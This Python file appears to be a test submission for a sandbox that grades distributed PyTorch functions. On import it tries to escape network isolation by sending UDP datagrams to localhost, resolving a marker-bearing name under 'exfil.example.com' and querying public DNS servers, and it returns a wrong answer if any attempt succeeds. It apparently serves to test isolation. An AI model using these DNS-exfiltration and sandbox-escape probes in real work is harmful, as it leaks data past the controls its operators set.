"""Sends the marker in UDP datagrams to a server on the host's 127.0.0.1, and resolves names through
the host's resolver (a lookup of <marker>.<domain> alone leaks data). Without a network namespace the
datagrams would arrive and the names would resolve."""

from __future__ import annotations

import os
import socket
import struct
import sys

import torch
import torch.distributed as dist

MARKER = "__MARKER__"
PORT = int("__UDP_PORT__")
got_through: list[str] = []


def dns_query(name: str) -> bytes:
    header = struct.pack("!HHHHHH", int.from_bytes(os.urandom(2), "big"), 0x0100, 1, 0, 0, 0)
    question = b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\0"
    return header + question + struct.pack("!HH", 1, 1)


def nameservers() -> list[str]:
    try:
        with open("/etc/resolv.conf") as handle:
            return [line.split()[1] for line in handle if line.startswith("nameserver")]
    except OSError:
        return []


def attack() -> None:
    for host in ("127.0.0.1", "localhost"):
        try:
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
                sock.sendto(f"{MARKER} rank {os.environ.get('RANK', '?')} says hello".encode(), (host, PORT))
        except OSError:
            pass
    for name in ("pypi.org", "github.com", f"{MARKER}.exfil.example.com"):
        try:
            socket.getaddrinfo(name, 443)
            got_through.append(f"resolved {name}")
        except OSError:
            pass
    for server in nameservers() + ["8.8.8.8", "1.1.1.1"]:
        try:
            with socket.socket(socket.AF_INET6 if ":" in server else socket.AF_INET, socket.SOCK_DGRAM) as sock:
                sock.settimeout(2)
                sock.sendto(dns_query("pypi.org"), (server, 53))
                if sock.recv(512):
                    got_through.append(f"answer from {server}")
        except OSError:
            pass


attack()


def solution(x: torch.Tensor, *, group: dist.ProcessGroup) -> torch.Tensor:
    out = x.clone()
    dist.all_reduce(out, group=group)
    if got_through:
        print("got through:", got_through, file=sys.stderr, flush=True)
        return out * 0 + 42
    return out
